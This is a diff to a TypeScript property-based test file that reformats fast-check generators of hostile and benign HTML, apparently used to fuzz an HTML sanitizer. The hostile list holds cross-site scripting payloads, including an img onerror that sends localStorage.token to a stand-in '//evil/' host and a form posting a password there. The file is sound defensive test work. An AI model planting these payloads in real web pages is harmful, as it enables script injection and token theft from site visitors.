@@ -40,16 +40,48 @@ function hazards(html: string): string[] {
 }
 
 const hostileTag = fc.constantFrom(
-  '<script>alert(1)</script>', '<img src=x onerror="fetch(\'//evil/\'+localStorage.token)">', '<svg onload=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>',
-  '<style>@import url(//evil/x.css)</style>', '<div style="background:url(//evil/track)">x</div>', '<object data="//evil/x.swf"></object>',
-  '<embed src="//evil/x">', '<form action="//evil"><input name=password></form>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<meta http-equiv="refresh" content="0;url=//evil">', '<base href="//evil/">',
-  '<img src="data:text/html,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<img srcset="//evil/1x 1x">', '<video poster=javascript:alert(1)>', '<link rel=stylesheet href=//evil/x.css>', '<x onclick=alert(1)>y</x>',
+  '<script>alert(1)</script>',
+  '<img src=x onerror="fetch(\'//evil/\'+localStorage.token)">',
+  '<svg onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
+  '<style>@import url(//evil/x.css)</style>',
+  '<div style="background:url(//evil/track)">x</div>',
+  '<object data="//evil/x.swf"></object>',
+  '<embed src="//evil/x">',
+  '<form action="//evil"><input name=password></form>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<meta http-equiv="refresh" content="0;url=//evil">',
+  '<base href="//evil/">',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<img srcset="//evil/1x 1x">',
+  '<video poster=javascript:alert(1)>',
+  '<link rel=stylesheet href=//evil/x.css>',
+  '<x onclick=alert(1)>y</x>',
 );
-const formatting = fc.constantFrom('<b>', '</b>', '<i>', '</i>', '<p>', '</p>', '<br>', '<ul><li>', '</li></ul>', '<a href="https://example.org">', '</a>', '<h3>', '</h3>', '<em>', '</em>');
+const formatting = fc.constantFrom(
+  '<b>',
+  '</b>',
+  '<i>',
+  '</i>',
+  '<p>',
+  '</p>',
+  '<br>',
+  '<ul><li>',
+  '</li></ul>',
+  '<a href="https://example.org">',
+  '</a>',
+  '<h3>',
+  '</h3>',
+  '<em>',
+  '</em>',
+);
 const text = fc.string({ maxLength: 12 });
 const hostileHtml = fc.array(fc.oneof(hostileTag, formatting, text), { maxLength: 12 }).map((parts) => parts.join(''));
 
